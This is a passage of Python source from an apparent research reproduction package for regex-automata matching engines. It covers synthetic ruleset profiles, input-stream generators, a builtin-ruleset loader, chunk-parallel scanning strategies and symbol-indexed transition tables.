BRO    Bro217 (Becchi et al.)   217          ~13           literal HTTP-ish strings, some classes
DS9    Dotstar09                299          ~43           heavy ``.*`` infixes, long patterns
PEN    PowerEN                  300          ~16           moderate classes, medium length
PRO    Protomata                300          ~12           wide classes, high inter-RE similarity
RG1    Ranges1                  299          ~43           many bracket ranges, long patterns
TCP    TCP-ExactMatch           300          ~30           near-exact strings, highest literal share
====== ======================== ============ ============= ==============

Similarity targets follow Fig. 1 (average normalised INDEL ≈ 0.25–0.5,
PRO highest); active-set behaviour follows Table II (DS9/PRO large,
TCP/RG1 tiny), driven here by the dot-star and wide-class rates.

``scaled()`` produces reduced-size variants: the pure-Python engines are
~10³× slower than the paper's C++, so benchmarks default to suites of
``num_res // scale`` REs (the shape of every figure is preserved — the
compression and throughput trends depend on ratios, not absolute sizes).
"""

from __future__ import annotations

from dataclasses import dataclass, replace


@dataclass(frozen=True)
class DatasetProfile:
    """Generator parameters for one synthetic suite."""

    name: str
    abbr: str
    num_res: int
    #: base alphabet the literals are drawn from
    alphabet: str
    #: number of distinct shared motifs in the pool
    motif_pool: int
    #: motif length range (inclusive)
    motif_len: tuple[int, int]
    #: segments concatenated per RE
    segments_per_re: tuple[int, int]
    #: probability a segment comes from the shared pool (similarity dial)
    share_prob: float
    #: probability a literal character is widened into a character class
    cc_prob: float
    #: width range of generated character classes
    cc_width: tuple[int, int]
    #: probability of inserting ``.*`` between two segments
    dotstar_prob: float
    #: probability of wrapping a segment into an alternation with a variant
    alt_prob: float
    #: probability of appending a bounded repeat to a segment
    rep_prob: float
    #: probability of a trailing ``+`` on a segment's last literal
    plus_prob: float
    #: generator seed (deterministic suites)
    seed: int

    def scaled(self, scale: int) -> "DatasetProfile":
        """A reduced-size variant with ``num_res // scale`` REs (≥ 8).

        The motif pool shrinks proportionally so the *similarity level* —
        the property merging exploits — is preserved.
        """
        if scale <= 1:
            return self
        return replace(
            self,
            num_res=max(8, self.num_res // scale),
            motif_pool=max(4, self.motif_pool // scale),
        )


_LOWER = "abcdefghijklmnopqrstuvwxyz"
_HTTP = _LOWER + "0123456789/=&-_"
_PROTEIN = "ACDEFGHIKLMNPQRSTVWY"


DATASET_PROFILES: dict[str, DatasetProfile] = {
    "BRO": DatasetProfile(
        name="Bro217-like",
        abbr="BRO",
        num_res=217,
        alphabet=_HTTP,
        motif_pool=36,
        motif_len=(3, 6),
        segments_per_re=(2, 4),
        share_prob=0.55,
        cc_prob=0.04,
        cc_width=(2, 4),
        dotstar_prob=0.05,
        alt_prob=0.08,
        rep_prob=0.04,
        plus_prob=0.03,
        seed=0xB20,
    ),
    "DS9": DatasetProfile(
        name="Dotstar09-like",
        abbr="DS9",
        num_res=299,
        alphabet=_LOWER + "0123456789",
        motif_pool=48,
        motif_len=(4, 8),
        segments_per_re=(4, 7),
        share_prob=0.58,
        cc_prob=0.05,
        cc_width=(2, 6),
        dotstar_prob=0.55,
        alt_prob=0.06,
        rep_prob=0.05,
        plus_prob=0.04,
        seed=0xD59,
    ),
    "PEN": DatasetProfile(
        name="PowerEN-like",
        abbr="PEN",
        num_res=300,
        alphabet=_LOWER + "0123456789",
        motif_pool=64,
        motif_len=(3, 6),
        segments_per_re=(2, 5),
        share_prob=0.38,
        cc_prob=0.08,
        cc_width=(2, 5),
        dotstar_prob=0.08,
        alt_prob=0.10,
        rep_prob=0.06,
        plus_prob=0.04,
        seed=0x9EA,
    ),
    "PRO": DatasetProfile(
        name="Protomata-like",
        abbr="PRO",
        num_res=300,
        alphabet=_PROTEIN,
        motif_pool=12,
        motif_len=(2, 4),
        segments_per_re=(3, 4),
        share_prob=0.82,
        cc_prob=0.30,
        cc_width=(4, 10),
        dotstar_prob=0.20,
        alt_prob=0.12,
        rep_prob=0.10,
        plus_prob=0.02,
        seed=0x960,
    ),
    "RG1": DatasetProfile(
        name="Ranges1-like",
        abbr="RG1",
        num_res=299,
        alphabet=_LOWER + "0123456789",
        motif_pool=56,
        motif_len=(4, 8),
        segments_per_re=(4, 7),
        share_prob=0.50,
        cc_prob=0.18,
        cc_width=(3, 8),
        dotstar_prob=0.03,
        alt_prob=0.05,
        rep_prob=0.08,
        plus_prob=0.03,
        seed=0x261,
    ),
    "TCP": DatasetProfile(
        name="TCP-ExactMatch-like",
        abbr="TCP",
        num_res=300,
        alphabet=_HTTP,
        motif_pool=44,
        motif_len=(4, 8),
        segments_per_re=(3, 5),
        share_prob=0.46,
        cc_prob=0.01,
        cc_width=(2, 3),
        dotstar_prob=0.0,
        alt_prob=0.02,
        rep_prob=0.02,
        plus_prob=0.01,
        seed=0x7C9,
    ),
}


def get_profile(abbr: str) -> DatasetProfile:
    """Look up a profile by its paper abbreviation (case-insensitive)."""
    try:
        return DATASET_PROFILES[abbr.upper()]
    except KeyError:
        known = ", ".join(DATASET_PROFILES)
        raise KeyError(f"unknown dataset {abbr!r}; known: {known}") from None
