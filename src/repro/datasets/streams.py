"""Input-stream generation (the paper's 1 MB data inputs).

Streams mix background bytes drawn from the suite's alphabet with planted
occurrences of ruleset material (motifs and whole literal cores) at a
controlled rate, so engines see realistic partial- and full-match
activity.  Generation is seeded and deterministic.
"""

from __future__ import annotations

import random

from repro.datasets.synthetic import Ruleset

#: Fraction of the stream (roughly) covered by planted ruleset material.
DEFAULT_HIT_DENSITY = 0.3


def generate_stream(
    ruleset: Ruleset,
    size: int,
    seed: int = 1,
    hit_density: float = DEFAULT_HIT_DENSITY,
) -> bytes:
    """A ``size``-byte stream for ``ruleset``.

    ``hit_density`` is the approximate fraction of bytes belonging to
    planted motifs / literal cores (0 → pure background noise).
    """
    if size < 0:
        raise ValueError("size must be non-negative")
    rng = random.Random((ruleset.profile.seed << 16) ^ seed)
    alphabet = ruleset.profile.alphabet
    plantable = ruleset.motifs + ruleset.literal_cores

    chunks: list[str] = []
    produced = 0
    while produced < size:
        if plantable and rng.random() < hit_density:
            planted = rng.choice(plantable)
            chunks.append(planted)
            produced += len(planted)
        else:
            run = rng.randint(2, 12)
            noise = "".join(rng.choice(alphabet) for _ in range(run))
            chunks.append(noise)
            produced += run
    return "".join(chunks).encode("latin-1")[:size]


def generate_adversarial_stream(ruleset: Ruleset, size: int, seed: int = 1) -> bytes:
    """A worst-case stream: maximal partial-match pressure.

    Instead of whole motifs, the stream concatenates *prefixes* of the
    ruleset's literal cores (each prefix starts many rules without
    finishing them), which keeps activation sets large — the stress
    input for Table-II-style analyses and engine robustness tests.
    """
    if size < 0:
        raise ValueError("size must be non-negative")
    rng = random.Random((ruleset.profile.seed << 20) ^ seed ^ 0xAD7E)
    cores = [c for c in ruleset.literal_cores if len(c) >= 2] or ["aa"]

    chunks: list[str] = []
    produced = 0
    while produced < size:
        core = rng.choice(cores)
        cut = rng.randint(1, max(1, len(core) - 1))  # strictly partial
        prefix = core[:cut]
        chunks.append(prefix)
        produced += len(prefix)
    return "".join(chunks).encode("latin-1")[:size]
