"""Loader for the curated builtin rulesets shipped with the package.

The paper's evaluation suites are not redistributable, so besides the
*synthetic generators* (:mod:`repro.datasets.synthetic`) the package
ships a handful of small hand-written rulesets with the same flavours —
original material, usable as realistic demo/test inputs::

    from repro.datasets import load_builtin, list_builtin

    ruleset = load_builtin("http_signatures")
    result = compile_ruleset(ruleset.patterns)

Files live in ``repro/datasets/builtin/*.rules`` (one ERE per line,
``#`` comments) and every pattern is guaranteed to pass the front-end
(tested).
"""

from __future__ import annotations

from dataclasses import dataclass
from importlib import resources

_PACKAGE = "repro.datasets.builtin"


@dataclass(frozen=True)
class BuiltinRuleset:
    """A curated ruleset: its name and patterns."""

    name: str
    patterns: tuple[str, ...]

    def __len__(self) -> int:
        return len(self.patterns)


def list_builtin() -> list[str]:
    """Names of the available curated rulesets."""
    names = []
    for entry in resources.files(_PACKAGE).iterdir():
        if entry.name.endswith(".rules"):
            names.append(entry.name[: -len(".rules")])
    return sorted(names)


def load_builtin(name: str) -> BuiltinRuleset:
    """Load one curated ruleset by name (see :func:`list_builtin`)."""
    resource = resources.files(_PACKAGE) / f"{name}.rules"
    try:
        text = resource.read_text()
    except FileNotFoundError:
        known = ", ".join(list_builtin())
        raise KeyError(f"unknown builtin ruleset {name!r}; known: {known}") from None
    patterns = tuple(
        line.strip()
        for line in text.splitlines()
        if line.strip() and not line.strip().startswith("#")
    )
    return BuiltinRuleset(name=name, patterns=patterns)
