"""Chunk-parallel scanning of a single stream (data-parallel DPI).

Figs. 9–10 parallelise across *automata*; the orthogonal axis is
parallelising one automaton across *stream chunks* — the standard
technique when one flow dominates.  Two strategies are available:

* ``"sfa"`` — simultaneous-run mappings (:mod:`repro.engine.sfa`):
  every chunk is scanned from every possible entry activation at once,
  with **zero** shared bytes, and the per-chunk :class:`ChunkMapping`\\ s
  reduce by associative composition to the exact single-shot answer.
  Correct for *any* ruleset — bounded, unbounded (``.*``), mixed.
* ``"overlap"`` — the classic bounded-width scheme: a match of width
  ≤ w that crosses a chunk boundary lies entirely within a w−1-byte
  overlap prepended to the next chunk, so chunks scan independently and
  matches deduplicate by absolute offset.  Requires every rule's match
  width to be bounded, but each chunk runs on the fastest available
  byte engine (numpy / lazy DFA), which the pure-python mapping scan
  cannot.

``strategy="auto"`` (the default) resolves by :func:`mfsa_max_width`:
bounded automata keep the overlap fast path, unbounded ones — which the
old code could only scan *sequentially* — now go data-parallel via
mappings.  The crossover is modelled in
:meth:`repro.engine.cost.CostModel.mapping_run_cost` and measured by
``pipeline.autotune.choose_scan_strategy``.

Counting automata (:class:`~repro.counting.mfsa.CountingMfsa` with live
counter registers) are a capability special case: the SFA mapping
interpreter has no register semantics, so explicit ``strategy="sfa"``
is a :class:`~repro.guard.errors.UsageError` and ``"auto"`` resolves to
``"overlap"`` with the width bound derived from the counter arcs' upper
bounds (a ``{m,n}`` arc contributes ``n`` to the longest path, which is
the whole point — the bound survives without expansion).  A ruleset
with an *unbounded* counting repeat (``{m,}``) has neither an overlap
bound nor mapping support, so :func:`chunk_scan` runs it in one exact
sequential pass.

Matches are exactly those of a single-shot scan under either strategy
(property-tested, both here and in tests/test_sfa_mapping.py).
"""

from __future__ import annotations

from typing import Optional, Sequence, Union

from repro.engine.imfant import IMfantEngine
from repro.engine.lazy import DEFAULT_CACHE_SIZE
from repro.engine.multithread import map_pool, run_pool
from repro.engine.sfa import SfaScanner, fold_mappings
from repro.frontend.analysis import max_width
from repro.frontend.parser import parse
from repro.guard.errors import UsageError
from repro.mfsa.model import Mfsa

SCAN_STRATEGIES = ("auto", "sfa", "overlap")


def ruleset_max_width(patterns: Sequence[str]) -> Optional[int]:
    """The longest possible match over the ruleset; None when unbounded."""
    widest = 0
    for pattern in patterns:
        width = max_width(parse(pattern))
        if width is None:
            return None
        widest = max(widest, width)
    return widest


def mfsa_max_width(mfsa) -> Optional[int]:
    """Structural match-width bound of a compiled MFSA; None if unbounded.

    The width of any match is bounded by the longest path in the
    transition graph — finite exactly when the graph is acyclic (a
    cycle reachable from an initial state admits unboundedly long
    matches for at least one of its belonging rules).  Unlike
    :func:`ruleset_max_width` this needs no source patterns, so it
    works on deserialized artifacts and post-merge automata.

    Accepts a :class:`~repro.counting.mfsa.CountingMfsa` too: a plain
    arc weighs one byte along the path, a ``{m,n}`` counter arc weighs
    ``n`` (its longest admissible run), and any unbounded ``{m,}`` arc
    makes the whole automaton unbounded immediately.
    """
    plain = mfsa.transitions if isinstance(mfsa, Mfsa) else mfsa.plain
    weights: dict[int, dict[int, int]] = {}
    for t in plain:
        dsts = weights.setdefault(t.src, {})
        dsts[t.dst] = max(dsts.get(t.dst, 0), 1)
    for arc in getattr(mfsa, "counting", ()):
        if arc.high is None:
            return None  # an {m,} repeat admits unboundedly long matches
        dsts = weights.setdefault(arc.src, {})
        dsts[arc.dst] = max(dsts.get(arc.dst, 0), arc.high)

    # iterative DFS: weighted longest path if acyclic, None on any cycle
    WHITE, GREY, BLACK = 0, 1, 2
    color = [WHITE] * mfsa.num_states
    longest = [0] * mfsa.num_states
    for root in range(mfsa.num_states):
        if color[root] != WHITE:
            continue
        stack: list[tuple[int, object]] = [(root, None)]
        while stack:
            state, it = stack[-1]
            if it is None:
                color[state] = GREY
                it = iter(weights.get(state, {}))
                stack[-1] = (state, it)
            advanced = False
            for nxt in it:  # type: ignore[union-attr]
                if color[nxt] == GREY:
                    return None  # cycle
                if color[nxt] == WHITE:
                    stack.append((nxt, None))
                    advanced = True
                    break
                longest[state] = max(longest[state], weights[state][nxt] + longest[nxt])
            if advanced:
                continue
            # children exhausted (account the one finished just above too)
            for nxt, weight in weights.get(state, {}).items():
                longest[state] = max(longest[state], weight + longest[nxt])
            color[state] = BLACK
            stack.pop()
    return max(longest, default=0)


def resolve_strategy(mfsa, strategy: str = "auto") -> str:
    """``"auto"`` → ``"overlap"`` when the automaton is width-bounded
    (fast byte engines per chunk), ``"sfa"`` otherwise (the case overlap
    chunking could only serve sequentially).  Counting automata always
    resolve to ``"overlap"`` — the mapping interpreter cannot carry
    counter registers, so explicitly asking for ``"sfa"`` is an error.
    """
    if strategy not in SCAN_STRATEGIES:
        raise UsageError(
            f"unknown scan strategy {strategy!r} (choose from {SCAN_STRATEGIES})"
        )
    has_registers = bool(getattr(mfsa, "counting", ()))
    if strategy == "sfa" and has_registers:
        raise UsageError(
            "the 'sfa' strategy cannot scan counter registers; counting "
            "rulesets chunk by bounded overlap (unbounded repeats scan "
            "sequentially)"
        )
    if strategy != "auto":
        return strategy
    if has_registers:
        return "overlap"
    return "overlap" if mfsa_max_width(mfsa) is not None else "sfa"


def _complete_eps_rules(
    mfsa: Mfsa, matches: set[tuple[int, int]], length: int
) -> set[tuple[int, int]]:
    """ε-accepting rules match at every offset; chunked scans only see
    their own ranges (or, for mappings, skip them entirely), so complete
    the full range explicitly."""
    for rule, q0 in mfsa.initials.items():
        if q0 in mfsa.finals[rule]:
            matches.update((rule, end) for end in range(length + 1))
    return matches


def chunk_scan(
    mfsa,
    data: bytes | str,
    strategy: str = "auto",
    chunk_size: int = 4096,
    num_threads: int = 4,
    backend: str = "python",
    lazy_cache_size: int = DEFAULT_CACHE_SIZE,
    scan_deadline: Optional[float] = None,
    overlap: Union[int, str, None] = "auto",
) -> set[tuple[int, int]]:
    """Scan ``data`` in parallel chunks; returns the single-shot matches.

    ``strategy`` picks the parallelism contract (see module docstring);
    streams no longer than ``chunk_size`` take one sequential scan under
    any strategy.  ``overlap`` only applies to the ``"overlap"``
    strategy: ``"auto"`` derives the width bound from the automaton
    (:func:`mfsa_max_width`), an int pins it explicitly.  ``backend``
    selects the per-chunk byte engine for overlap scans; mapping scans
    are a dedicated simultaneous-run interpreter and ignore it.

    Under ``backend="lazy"`` (and ``"dense"``, which layers compiled
    tables above the same cache) each overlap-chunk worker *owns* its
    cache: workers run concurrently and the lazy cache is single-writer
    mutable state, so sharing one would either race or need a lock on
    the hot path.  The per-chunk caches share the engine's immutable tables (via
    :meth:`IMfantEngine.fork`) and their cold-start misses amortise over
    the chunk length; ``lazy_cache_size`` bounds each worker's cache.
    """
    payload = data.encode("latin-1") if isinstance(data, str) else data
    resolved = resolve_strategy(mfsa, strategy)
    sequential = len(payload) <= chunk_size
    if not sequential and getattr(mfsa, "counting", ()) and mfsa_max_width(mfsa) is None:
        # An unbounded {m,} counter arc: no overlap bound exists and the
        # mapping interpreter has no register semantics, so the only
        # exact option is a single sequential pass.
        sequential = True
    if sequential:
        engine = IMfantEngine(
            mfsa,
            backend=backend,
            lazy_cache_size=lazy_cache_size,
            scan_deadline=scan_deadline,
        )
        return engine.run(payload, collect_stats=False).matches
    if resolved == "sfa":
        return mapping_chunk_scan(
            mfsa,
            payload,
            chunk_size=chunk_size,
            num_threads=num_threads,
            scan_deadline=scan_deadline,
        )
    return overlap_chunk_scan(
        mfsa,
        payload,
        overlap=overlap,
        chunk_size=chunk_size,
        num_threads=num_threads,
        backend=backend,
        lazy_cache_size=lazy_cache_size,
        scan_deadline=scan_deadline,
    )


def mapping_chunk_scan(
    mfsa: Mfsa,
    data: bytes | str,
    chunk_size: int = 4096,
    num_threads: int = 4,
    scan_deadline: Optional[float] = None,
    scanner: Optional[SfaScanner] = None,
) -> set[tuple[int, int]]:
    """Zero-overlap data-parallel scan via composable chunk mappings.

    Chunks share no bytes; each worker computes its chunk's
    :class:`~repro.engine.sfa.ChunkMapping` independently (any order),
    and a sequential O(chunks × state-width) fold threads the exit
    activations through — exactly the single-shot match set, for any
    ruleset including unbounded ones.  ``scan_deadline`` is per chunk
    (the legacy contract); a chunk exceeding it raises
    :class:`~repro.guard.errors.ScanDeadlineExceeded`.
    """
    payload = data.encode("latin-1") if isinstance(data, str) else data
    if chunk_size < 1:
        raise UsageError(f"chunk_size must be >= 1 (got {chunk_size})")
    sc = scanner if scanner is not None else SfaScanner(
        mfsa, scan_deadline=scan_deadline
    )
    chunks = [
        payload[start : start + chunk_size]
        for start in range(0, len(payload), chunk_size)
    ] or [b""]

    def make_task(segment: bytes):
        def task():
            return sc.scan_chunk(segment, collect_stats=False).mapping

        return task

    mappings = map_pool(
        [make_task(c) for c in chunks], num_threads=num_threads, label="mapping_scan"
    )
    matches, _exit = fold_mappings(mappings, [len(c) for c in chunks], sc)
    return _complete_eps_rules(mfsa, matches, len(payload))


def overlap_chunk_scan(
    mfsa,
    data: bytes | str,
    overlap: Union[int, str, None] = "auto",
    chunk_size: int = 4096,
    num_threads: int = 4,
    backend: str = "python",
    lazy_cache_size: int = DEFAULT_CACHE_SIZE,
    scan_deadline: Optional[float] = None,
) -> set[tuple[int, int]]:
    """The classic bounded-width overlap/stitch scan.

    ``overlap`` must cover the ruleset's maximum match width; ``"auto"``
    (or ``None``) derives it from the automaton and raises
    :class:`~repro.guard.errors.UsageError` when the ruleset is
    unbounded — use :func:`mapping_chunk_scan` (or ``strategy="auto"``)
    for those.  ``chunk_size`` must exceed the overlap for the split to
    make progress.
    """
    payload = data.encode("latin-1") if isinstance(data, str) else data
    if overlap == "auto" or overlap is None:
        overlap = mfsa_max_width(mfsa)
        if overlap is None:
            if getattr(mfsa, "counting", ()):
                raise UsageError(
                    "overlap scan requires a bounded ruleset; this counting "
                    "automaton carries an unbounded {m,} repeat — scan it "
                    "sequentially (chunk_scan does so automatically)"
                )
            raise UsageError(
                "overlap scan requires a bounded ruleset; this automaton "
                "admits unbounded matches — use the 'sfa' strategy"
            )
    engine = IMfantEngine(
        mfsa, backend=backend, lazy_cache_size=lazy_cache_size, scan_deadline=scan_deadline
    )
    if len(payload) <= chunk_size:
        return engine.run(payload, collect_stats=False).matches
    if chunk_size <= overlap:
        raise ValueError(f"chunk_size ({chunk_size}) must exceed overlap ({overlap})")

    # Chunk k covers [start, end) with `lead` bytes of left context; any
    # match ending inside [start, end) started within the context, so it
    # is found — and matches ending inside the context are the previous
    # chunk's responsibility (dropped here to avoid double reporting of
    # empty-rule offsets; set-dedup covers the rest anyway).
    jobs = []
    for start in range(0, len(payload), chunk_size):
        lead = min(overlap, start)
        segment = payload[start - lead : min(start + chunk_size, len(payload))]
        jobs.append((start, lead, segment))

    def make_runner(start: int, lead: int, segment: bytes):
        # each worker gets private mutable state (its own lazy cache);
        # non-lazy backends are stateless across runs, but fork() is
        # cheap either way (tables are shared, never rebuilt)
        worker_engine = engine.fork() if backend in ("lazy", "dense") else engine

        def run():
            result = worker_engine.run(segment, collect_stats=False)
            rebased = {
                (rule, end + start - lead)
                for rule, end in result.matches
                if end > lead or (start == 0 and end >= 0)
            }
            result.matches = rebased
            return result
        return run

    matches, _ = run_pool(
        [make_runner(start, lead, segment) for start, lead, segment in jobs],
        num_threads=num_threads,
    )
    return _complete_eps_rules(mfsa, matches, len(payload))
