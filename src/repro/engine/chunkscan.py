"""Chunk-parallel scanning of a single stream (data-parallel DPI).

Figs. 9–10 parallelise across *automata*; the orthogonal axis is
parallelising one automaton across *stream chunks* — the standard
technique when one flow dominates.  Correctness hinges on overlap: a
match of width ≤ w that crosses a chunk boundary lies entirely within a
w−1-byte overlap prepended to the next chunk, so every chunk can be
scanned independently and matches deduplicate by absolute offset.

The overlap must bound the longest possible match, which
:func:`repro.frontend.analysis.max_width` provides per rule:

* all rules bounded → ``chunk_scan`` splits, scans in parallel (real
  thread pool) and re-bases offsets;
* any rule unbounded (``.*`` etc.) → no finite overlap is sound, and the
  function falls back to a sequential scan of the whole stream (callers
  can route such rules to a separate engine first — see
  :class:`repro.engine.hybrid.HybridEngine` for the splitting pattern).

Matches are exactly those of a single-shot scan (property-tested).
"""

from __future__ import annotations

from typing import Optional, Sequence

from repro.engine.imfant import IMfantEngine
from repro.engine.lazy import DEFAULT_CACHE_SIZE
from repro.engine.multithread import run_pool
from repro.frontend.analysis import max_width
from repro.frontend.parser import parse
from repro.mfsa.model import Mfsa


def ruleset_max_width(patterns: Sequence[str]) -> Optional[int]:
    """The longest possible match over the ruleset; None when unbounded."""
    widest = 0
    for pattern in patterns:
        width = max_width(parse(pattern))
        if width is None:
            return None
        widest = max(widest, width)
    return widest


def chunk_scan(
    mfsa: Mfsa,
    data: bytes | str,
    overlap: Optional[int],
    chunk_size: int = 4096,
    num_threads: int = 4,
    backend: str = "python",
    lazy_cache_size: int = DEFAULT_CACHE_SIZE,
    scan_deadline: Optional[float] = None,
) -> set[tuple[int, int]]:
    """Scan ``data`` in overlapping chunks; returns the single-shot matches.

    ``overlap`` is the ruleset's maximum match width (see
    :func:`ruleset_max_width`); ``None`` falls back to one sequential
    scan.  ``chunk_size`` must exceed the overlap for the split to make
    progress.

    Under ``backend="lazy"`` each chunk worker *owns* its cache: workers
    run concurrently and the lazy cache is single-writer mutable state,
    so sharing one would either race or need a lock on the hot path.
    The per-chunk caches share the engine's immutable tables (via
    :meth:`IMfantEngine.fork`) and their cold-start misses amortise over
    the chunk length; ``lazy_cache_size`` bounds each worker's cache.
    """
    payload = data.encode("latin-1") if isinstance(data, str) else data
    engine = IMfantEngine(
        mfsa, backend=backend, lazy_cache_size=lazy_cache_size, scan_deadline=scan_deadline
    )
    if overlap is None or len(payload) <= chunk_size:
        return engine.run(payload, collect_stats=False).matches
    if chunk_size <= overlap:
        raise ValueError(f"chunk_size ({chunk_size}) must exceed overlap ({overlap})")

    # Chunk k covers [start, end) with `lead` bytes of left context; any
    # match ending inside [start, end) started within the context, so it
    # is found — and matches ending inside the context are the previous
    # chunk's responsibility (dropped here to avoid double reporting of
    # empty-rule offsets; set-dedup covers the rest anyway).
    jobs = []
    for start in range(0, len(payload), chunk_size):
        lead = min(overlap, start)
        segment = payload[start - lead : min(start + chunk_size, len(payload))]
        jobs.append((start, lead, segment))

    def make_runner(start: int, lead: int, segment: bytes):
        # each worker gets private mutable state (its own lazy cache);
        # non-lazy backends are stateless across runs, but fork() is
        # cheap either way (tables are shared, never rebuilt)
        worker_engine = engine.fork() if backend == "lazy" else engine

        def run():
            result = worker_engine.run(segment, collect_stats=False)
            rebased = {
                (rule, end + start - lead)
                for rule, end in result.matches
                if end > lead or (start == 0 and end >= 0)
            }
            result.matches = rebased
            return result
        return run

    matches, _ = run_pool(
        [make_runner(start, lead, segment) for start, lead, segment in jobs],
        num_threads=num_threads,
    )
    # ε-accepting rules match at every offset; chunked scans only see
    # their own ranges, so complete the range explicitly.
    for rule, q0 in mfsa.initials.items():
        if q0 in mfsa.finals[rule]:
            matches.update((rule, end) for end in range(len(payload) + 1))
    return matches
