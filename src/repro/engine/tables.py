"""Engine pre-processing: symbol-indexed transition tables.

iNFAnt's core data structure "links each symbol in a standard
256-characters alphabet to the transitions it enables" (paper §V).  Both
engines build these tables once per automaton; building them is the
algorithm's pre-processing step and is timed separately by the pipeline.

Two encodings are produced:

* Python lists of ``(src, dst)`` / ``(src, dst, bel_mask)`` tuples for the
  interpretive engines;
* NumPy arrays (``src``, ``dst`` vectors plus a ``(k, limbs)`` uint64
  belonging matrix) for the vectorised engine — the CPU analogue of the
  GPU layout.
"""

from __future__ import annotations

from dataclasses import dataclass

import numpy as np

from repro.automata.fsa import Fsa
from repro.labels import ALPHABET_SIZE
from repro.mfsa.model import Mfsa

_LIMB_BITS = 64


@dataclass(frozen=True)
class ByteClasses:
    """Byte equivalence classes of a symbol-indexed transition table.

    Two bytes are equivalent when they enable the *same* transition
    list — for any frontier they then produce identical steps, so a
    dense transition table only needs one column per class, not per
    byte (the classic alphabet-compression trick of table-driven DFA
    engines; cf. Bille's tabulation in PAPERS.md).  Real rulesets
    collapse 256 symbols to a few dozen classes.

    ``translate`` is a 256-byte table mapping byte → class id, built
    for ``payload.translate(translate)`` — alphabet compression of a
    whole buffer at C speed.
    """

    #: number of distinct classes (class ids are ``0..num_classes-1``)
    num_classes: int
    #: byte → class id, as a 256-byte ``bytes.translate`` table
    translate: bytes
    #: class id → one representative byte of the class
    representatives: tuple[int, ...]

    def class_of(self, byte: int) -> int:
        return self.translate[byte]

    def members(self, cls: int) -> list[int]:
        return [b for b in range(ALPHABET_SIZE) if self.translate[b] == cls]


def byte_classes(by_symbol: list) -> ByteClasses:
    """Partition the 256-symbol alphabet into byte equivalence classes.

    ``by_symbol`` is any symbol-indexed table whose entries are
    hashable-item lists (both :class:`FsaTables` pair lists and
    :class:`MfsaTables` triple lists qualify).  Classes are numbered in
    order of first appearance, so class ids are deterministic and the
    representative of class ``k`` is the smallest byte in it.
    """
    if len(by_symbol) != ALPHABET_SIZE:
        raise ValueError(
            f"by_symbol must index all {ALPHABET_SIZE} symbols (got {len(by_symbol)})"
        )
    ids: dict[tuple, int] = {}
    reps: list[int] = []
    table = bytearray(ALPHABET_SIZE)
    for byte in range(ALPHABET_SIZE):
        key = tuple(by_symbol[byte])
        cls = ids.get(key)
        if cls is None:
            cls = len(reps)
            ids[key] = cls
            reps.append(byte)
        table[byte] = cls
    return ByteClasses(
        num_classes=len(reps),
        translate=bytes(table),
        representatives=tuple(reps),
    )


def limbs_for(num_rules: int) -> int:
    """uint64 limbs needed for a bitmask over ``num_rules`` rule slots."""
    return max(1, (num_rules + _LIMB_BITS - 1) // _LIMB_BITS)


def mask_to_limbs(mask: int, limbs: int) -> tuple[int, ...]:
    return tuple((mask >> (_LIMB_BITS * i)) & 0xFFFFFFFFFFFFFFFF for i in range(limbs))


@dataclass
class FsaTables:
    """Symbol-indexed tables for one plain FSA (iNFAnt layout)."""

    num_states: int
    initial: int
    finals: frozenset[int]
    #: per symbol: list of (src, dst) pairs enabled by it
    by_symbol: list[list[tuple[int, int]]]
    accepts_empty: bool

    @classmethod
    def build(cls, fsa: Fsa) -> "FsaTables":
        if fsa.has_epsilon():
            raise ValueError("engines require ε-free FSAs")
        by_symbol: list[list[tuple[int, int]]] = [[] for _ in range(ALPHABET_SIZE)]
        for t in fsa.labelled_transitions():
            pair = (t.src, t.dst)
            for byte in t.label.chars():  # type: ignore[union-attr]
                by_symbol[byte].append(pair)
        return cls(
            num_states=fsa.num_states,
            initial=fsa.initial,
            finals=frozenset(fsa.finals),
            by_symbol=by_symbol,
            accepts_empty=fsa.initial in fsa.finals,
        )


@dataclass
class MfsaTables:
    """Symbol-indexed tables for one MFSA (iMFAnt layout).

    The extra per-state field the paper adds to the state vector — the
    activation function value — is supported via the ``init_mask`` /
    ``final_mask`` state vectors and the per-transition ``bel`` masks.
    """

    num_states: int
    num_rules: int
    #: dense slot -> caller rule id
    slot_to_rule: list[int]
    #: per state: bitmask of rules whose initial state it is
    init_mask: list[int]
    #: per state: bitmask of rules it is final for
    final_mask: list[int]
    #: per symbol: list of (src, dst, bel_mask) triples enabled by it
    by_symbol: list[list[tuple[int, int, int]]]
    #: rules whose language contains ε (match at every offset)
    empty_matching_rules: list[int]

    # NumPy views (built lazily by `ensure_arrays`)
    limbs: int = 1
    np_src: list | None = None
    np_dst: list | None = None
    np_bel: list | None = None
    np_init: "np.ndarray | None" = None
    np_final: "np.ndarray | None" = None
    np_final_rows: list | None = None

    @classmethod
    def build(cls, mfsa: Mfsa) -> "MfsaTables":
        slots = mfsa.slot_of()
        slot_to_rule = [rule for rule, _ in sorted(slots.items(), key=lambda kv: kv[1])]
        init_mask = mfsa.initial_mask_per_state()
        final_mask = mfsa.final_mask_per_state()
        bel_masks = mfsa.belonging_masks()

        by_symbol: list[list[tuple[int, int, int]]] = [[] for _ in range(ALPHABET_SIZE)]
        for i, t in enumerate(mfsa.transitions):
            triple = (t.src, t.dst, bel_masks[i])
            for byte in t.label.chars():
                by_symbol[byte].append(triple)

        empty_rules = [rule for rule, q0 in mfsa.initials.items() if q0 in mfsa.finals[rule]]
        return cls(
            num_states=mfsa.num_states,
            num_rules=mfsa.num_rules,
            slot_to_rule=slot_to_rule,
            init_mask=init_mask,
            final_mask=final_mask,
            by_symbol=by_symbol,
            empty_matching_rules=empty_rules,
        )

    def byte_classes(self) -> ByteClasses:
        """Byte equivalence classes of this table (see :func:`byte_classes`)."""
        return byte_classes(self.by_symbol)

    def ensure_arrays(self) -> None:
        """Materialise the NumPy layout (idempotent)."""
        if self.np_src is not None:
            return
        self.limbs = limbs_for(self.num_rules)
        self.np_src = []
        self.np_dst = []
        self.np_bel = []
        self.np_final_rows = []
        final_arr = np.zeros((self.num_states, self.limbs), dtype=np.uint64)
        init_arr = np.zeros((self.num_states, self.limbs), dtype=np.uint64)
        for state in range(self.num_states):
            final_arr[state] = mask_to_limbs(self.final_mask[state], self.limbs)
            init_arr[state] = mask_to_limbs(self.init_mask[state], self.limbs)
        self.np_init = init_arr
        self.np_final = final_arr
        for symbol in range(ALPHABET_SIZE):
            triples = self.by_symbol[symbol]
            if not triples:
                self.np_src.append(None)
                self.np_dst.append(None)
                self.np_bel.append(None)
                self.np_final_rows.append(None)
                continue
            src = np.fromiter((t[0] for t in triples), dtype=np.int64, count=len(triples))
            dst = np.fromiter((t[1] for t in triples), dtype=np.int64, count=len(triples))
